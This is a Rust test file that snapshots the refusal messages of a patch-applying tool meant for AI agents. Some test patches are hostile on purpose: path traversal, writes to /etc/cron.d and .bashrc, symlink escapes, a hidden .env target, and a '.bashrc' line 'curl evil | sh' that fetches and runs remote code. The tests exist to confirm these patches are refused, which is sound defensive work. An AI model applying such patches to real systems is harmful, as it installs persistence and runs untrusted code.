//! Snapshots of refusal and failure messages: they are an interface to
//! models and change only on purpose.

use agentcaps_patch::{ApplyOptions, Patch, PatchError, PatchPolicyConfig};

use crate::support::Sandbox;

/// Applies `patch` on a tree of `files` and returns the error.
fn refusal(files: &[(&str, &str)], patch: &str, config: PatchPolicyConfig) -> PatchError {
    let sandbox = Sandbox::new();
    for (name, content) in files {
        let path = sandbox.root.join(name);
        if let Some(parent) = path.parent() {
            std::fs::create_dir_all(parent).unwrap_or_else(|e| panic!("mkdir: {e}"));
        }
        std::fs::write(path, content).unwrap_or_else(|e| panic!("write: {e}"));
    }
    let patcher = sandbox.patcher(config);
    let result = patcher
        .parse(patch)
        .and_then(|p| patcher.apply(&p, &sandbox.root, ApplyOptions::default()));
    match result {
        Ok(report) => panic!("expected a refusal, got {report:?}"),
        Err(e) => e,
    }
}

/// The message with the sandbox's temporary path replaced.
fn message(e: &PatchError) -> String {
    let text = format!("{} [rule: {}, refusal: {}]", e, e.rule(), e.is_refusal());
    let tmp = std::env::temp_dir()
        .canonicalize()
        .unwrap_or_default()
        .display()
        .to_string();
    regex_lite(&text, &tmp)
}

fn regex_lite(text: &str, tmp: &str) -> String {
    // Temporary directories look like <tmp>/.tmpXXXXXX/root.
    let mut out = String::new();
    let mut rest = text;
    while let Some(i) = rest.find(tmp) {
        out.push_str(&rest[..i]);
        out.push_str("[TMP]");
        let after = &rest[i + tmp.len()..];
        let skip = after
            .strip_prefix('/')
            .map_or(0, |a| 1 + a.find('/').unwrap_or(a.len()));
        rest = &after[skip..];
    }
    out.push_str(rest);
    out
}

fn parse_error(patch: &str) -> String {
    match Patch::parse(patch) {
        Ok(p) => panic!("expected a parse error, got {p:?}"),
        Err(e) => message(&e),
    }
}

#[test]
fn dot_dot() {
    let e = refusal(
        &[],
        "*** Begin Patch\n*** Add File: ../x\n+x\n*** End Patch\n",
        PatchPolicyConfig::default(),
    );
    insta::assert_snapshot!(message(&e));
}

#[test]
fn absolute() {
    let e = refusal(
        &[],
        "*** Begin Patch\n*** Add File: /etc/cron.d/x\n+x\n*** End Patch\n",
        PatchPolicyConfig::default(),
    );
    insta::assert_snapshot!(message(&e));
}

#[test]
fn symlink_written_through() {
    let sandbox = Sandbox::new();
    std::fs::write(sandbox.root.join("real.txt"), "a\n").unwrap_or_else(|e| panic!("{e}"));
    std::os::unix::fs::symlink("real.txt", sandbox.root.join("alias.txt"))
        .unwrap_or_else(|e| panic!("{e}"));
    let patcher = sandbox.patcher(PatchPolicyConfig::default());
    let patch =
        Patch::parse("*** Begin Patch\n*** Update File: alias.txt\n@@\n-a\n+b\n*** End Patch\n")
            .unwrap_or_else(|e| panic!("{e}"));
    let e = patcher
        .apply(&patch, &sandbox.root, ApplyOptions::default())
        .err()
        .unwrap_or_else(|| panic!("applied"));
    insta::assert_snapshot!(message(&e));
}

#[test]
fn outside_roots_through_link() {
    let sandbox = Sandbox::new();
    std::os::unix::fs::symlink("../outside", sandbox.root.join("out"))
        .unwrap_or_else(|e| panic!("{e}"));
    let patcher = sandbox.patcher(PatchPolicyConfig::default());
    let patch =
        Patch::parse("--- a/out/secret.txt\n+++ b/out/secret.txt\n@@ -1 +1 @@\n-secret\n+pwned\n")
            .unwrap_or_else(|e| panic!("{e}"));
    let e = patcher
        .apply(&patch, &sandbox.root, ApplyOptions::default())
        .err()
        .unwrap_or_else(|| panic!("applied"));
    insta::assert_snapshot!(message(&e));
}

#[test]
fn write_protected() {
    let e = refusal(
        &[],
        "*** Begin Patch\n*** Add File: .bashrc\n+x\n*** End Patch\n",
        PatchPolicyConfig::default(),
    );
    insta::assert_snapshot!(message(&e));
}

#[test]
fn not_portable() {
    let e = refusal(
        &[],
        "*** Begin Patch\n*** Add File: con.txt\n+x\n*** End Patch\n",
        PatchPolicyConfig::default(),
    );
    insta::assert_snapshot!(message(&e));
}

#[test]
fn one_fate() {
    let e = refusal(
        &[("a", "a\n")],
        "*** Begin Patch\n*** Delete File: a\n*** Add File: a\n+b\n*** End Patch\n",
        PatchPolicyConfig::default(),
    );
    insta::assert_snapshot!(message(&e));
}

#[test]
fn no_match_with_closest_candidate() {
    let e = refusal(
        &[("c.txt", "zero\none\ntwo!\nthree\n")],
        "--- a/c.txt\n+++ b/c.txt\n@@ -1,3 +1,3 @@\n one\n-two\n+2\n three\n",
        PatchPolicyConfig::default(),
    );
    insta::assert_snapshot!(message(&e));
}

#[test]
fn ambiguous() {
    let e = refusal(
        &[("r.txt", "a\nctx\nb\nx\nb\nctx\nc\n")],
        "--- a/r.txt\n+++ b/r.txt\n@@ -4 +4 @@\n-ctx\n+CTX\n",
        PatchPolicyConfig::default(),
    );
    insta::assert_snapshot!(message(&e));
}

#[test]
fn exists() {
    let e = refusal(
        &[("x.txt", "x\n")],
        "*** Begin Patch\n*** Add File: x.txt\n+y\n*** End Patch\n",
        PatchPolicyConfig::default(),
    );
    insta::assert_snapshot!(message(&e));
}

#[test]
fn content_differs() {
    let e = refusal(
        &[("x.txt", "x\ny\n")],
        "--- a/x.txt\n+++ /dev/null\n@@ -1 +0,0 @@\n-x\n",
        PatchPolicyConfig::default(),
    );
    insta::assert_snapshot!(message(&e));
}

#[test]
fn bound_files() {
    let config = PatchPolicyConfig {
        max_files: 1,
        ..PatchPolicyConfig::default()
    };
    let e = refusal(
        &[],
        "*** Begin Patch\n*** Add File: a\n+a\n*** Add File: b\n+b\n*** End Patch\n",
        config,
    );
    insta::assert_snapshot!(message(&e));
}

#[test]
fn bound_target_bytes() {
    let config = PatchPolicyConfig {
        max_target_bytes: 4,
        ..PatchPolicyConfig::default()
    };
    let e = refusal(
        &[("x.txt", "0123456789\n")],
        "--- a/x.txt\n+++ b/x.txt\n@@ -1 +1 @@\n-0123456789\n+0\n",
        config,
    );
    insta::assert_snapshot!(message(&e));
}

#[test]
fn parse_errors() {
    insta::assert_snapshot!(parse_error("@@ -1 +1 @@\n-a\n+b\n"));
}

#[test]
fn header_counts() {
    insta::assert_snapshot!(parse_error(
        "--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n a\n-b\n+B\n c\n"
    ));
}

#[test]
fn ed_script() {
    insta::assert_snapshot!(parse_error("3c\npwned\n.\n"));
}

#[test]
fn mode_change() {
    insta::assert_snapshot!(parse_error(
        "diff --git a/x b/x\nold mode 100644\nnew mode 100755\n"
    ));
}

#[test]
fn symlink_in_patch() {
    insta::assert_snapshot!(parse_error(
        "diff --git a/l b/l\nnew file mode 120000\n--- /dev/null\n+++ b/l\n@@ -0,0 +1 @@\n+/etc\n"
    ));
}

#[test]
fn unknown_header() {
    insta::assert_snapshot!(parse_error("diff --git a/x b/x\nfrobnicate\n"));
}

#[test]
fn envelope_missing_end() {
    insta::assert_snapshot!(parse_error("*** Begin Patch\n*** Add File: a\n+a\n"));
}

/// The report is an interface too (the CLI's and the tool's JSON output).
#[test]
fn report_json() {
    let sandbox = Sandbox::new();
    let write = |name: &str, content: &str| {
        std::fs::write(sandbox.root.join(name), content).unwrap_or_else(|e| panic!("write: {e}"))
    };
    write("shifted.txt", "new first line\none\ntwo  \nthree\n");
    write("old.txt", "moved\n");
    write("gone.txt", "bye\n");
    let patcher = sandbox.patcher(PatchPolicyConfig::default());
    let patch = Patch::parse(
        "diff --git a/shifted.txt b/shifted.txt\n--- a/shifted.txt\n+++ b/shifted.txt\n@@ -1,3 +1,3 @@\n one\n-two\n+TWO\n three\n\
         diff --git a/old.txt b/new.txt\nsimilarity index 100%\nrename from old.txt\nrename to new.txt\n\
         diff --git a/gone.txt b/gone.txt\ndeleted file mode 100644\n--- a/gone.txt\n+++ /dev/null\n@@ -1 +0,0 @@\n-bye\n\
         diff --git a/made.txt b/made.txt\nnew file mode 100644\n--- /dev/null\n+++ b/made.txt\n@@ -0,0 +1 @@\n+made\n",
    )
    .unwrap_or_else(|e| panic!("{e}"));
    let report = patcher
        .apply(
            &patch,
            &sandbox.root,
            ApplyOptions {
                dry_run: true,
                strip: None,
            },
        )
        .unwrap_or_else(|e| panic!("{e}"));
    insta::assert_json_snapshot!(report);
}

#[test]
fn ambiguous_lists_every_candidate() {
    let e = refusal(
        &[("r.txt", "x\nx\nx\nx\nx\n")],
        "*** Begin Patch\n*** Update File: r.txt\n-x\n+y\n*** End Patch\n",
        PatchPolicyConfig::default(),
    );
    insta::assert_snapshot!(message(&e));
}

#[test]
fn inconsistent_names_plus_in_a_rename() {
    let e = refusal(
        &[("a.txt", "one\n")],
        "diff --git a/a.txt b/b.txt\nsimilarity index 90%\nrename from a.txt\nrename to b.txt\n--- a/a.txt\n+++ b/.bashrc\n@@ -1 +1 @@\n-one\n+curl evil | sh\n",
        PatchPolicyConfig::default(),
    );
    insta::assert_snapshot!(message(&e));
}

#[test]
fn inconsistent_names_git_header_over_dashes() {
    let e = refusal(
        &[("a.txt", "one\n")],
        "diff --git a/.env b/.env\n--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-one\n+two\n",
        PatchPolicyConfig::default(),
    );
    insta::assert_snapshot!(message(&e));
}

#[test]
fn malformed_shapes_name_their_repair() {
    let shapes = [
        "--- a/x\n+++ b/x\n@@ -XXX @@\n-a\n+b\n",
        "--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n12: fn main() {\n-a\n+b\n",
        "*** Begin Patch\n*** Update File: x\n@@\n7\tlet a = 1;\n-b\n+c\n*** End Patch\n",
    ];
    let text: Vec<String> = shapes.iter().map(|p| parse_error(p)).collect();
    insta::assert_snapshot!(text.join("\n\n"));
}

#[test]
fn line_numbers_inside_context_lines() {
    let e = refusal(
        &[("x.rs", "fn main() {\n    run();\n}\n")],
        "--- a/x.rs\n+++ b/x.rs\n@@ -1,2 +1,2 @@\n 1: fn main() {\n-2:     run();\n+2:     go();\n",
        PatchPolicyConfig::default(),
    );
    insta::assert_snapshot!(message(&e));
}

#[test]
fn doubled_repository_path() {
    let sandbox = Sandbox::new();
    std::fs::create_dir_all(sandbox.root.join("src")).unwrap_or_else(|e| panic!("mkdir: {e}"));
    std::fs::write(sandbox.root.join("src/main.rs"), "one\n")
        .unwrap_or_else(|e| panic!("write: {e}"));
    let patcher = sandbox.patcher(PatchPolicyConfig::default());
    let repo = sandbox
        .root
        .file_name()
        .map(|n| n.to_string_lossy().into_owned())
        .unwrap_or_default();
    let mut texts = Vec::new();
    for name in [format!("{repo}/src/main.rs"), "src/src/main.rs".to_owned()] {
        let patch = format!("--- a/{name}\n+++ b/{name}\n@@ -1 +1 @@\n-one\n+two\n");
        let e = patcher
            .parse(&patch)
            .and_then(|p| patcher.apply(&p, &sandbox.root, ApplyOptions::default()))
            .err()
            .unwrap_or_else(|| panic!("{name}: applied"));
        texts.push(message(&e).replace(&repo, "[REPO]"));
    }
    insta::assert_snapshot!(texts.join("\n\n"));
}

#[test]
fn dry_run_diff() {
    let sandbox = Sandbox::new();
    for (name, content) in [
        ("moved.txt", "keep\nold\n"),
        ("offset.txt", "x\ny\nz\nfirst\nsecond  \nthird\n"),
        ("gone.txt", "bye\n"),
        ("crlf.txt", "a\r\nb\r\n"),
    ] {
        std::fs::write(sandbox.root.join(name), content).unwrap_or_else(|e| panic!("{e}"));
    }
    let patch = "diff --git a/moved.txt b/dir/moved.txt\nsimilarity index 50%\nrename from moved.txt\nrename to dir/moved.txt\n--- a/moved.txt\n+++ b/dir/moved.txt\n@@ -1,2 +1,2 @@\n keep\n-old\n+new\n\
--- a/offset.txt\n+++ b/offset.txt\n@@ -1,3 +1,3 @@\n first\n-second\n+SECOND\n third\n\
--- a/gone.txt\n+++ /dev/null\n@@ -1 +0,0 @@\n-bye\n\
--- /dev/null\n+++ b/new.txt\n@@ -0,0 +1,2 @@\n+hello\n+world\n\\ No newline at end of file\n\
--- a/crlf.txt\n+++ b/crlf.txt\n@@ -1,2 +1,2 @@\n a\n-b\n+c\n";
    let patcher = sandbox.patcher(PatchPolicyConfig::default());
    let report = patcher
        .parse(patch)
        .and_then(|p| {
            patcher.apply(
                &p,
                &sandbox.root,
                ApplyOptions {
                    dry_run: true,
                    strip: None,
                },
            )
        })
        .unwrap_or_else(|e| panic!("{e}"));
    let diff = report.diff.unwrap_or_default().replace('\r', "<CR>");
    insta::assert_snapshot!(diff);
}
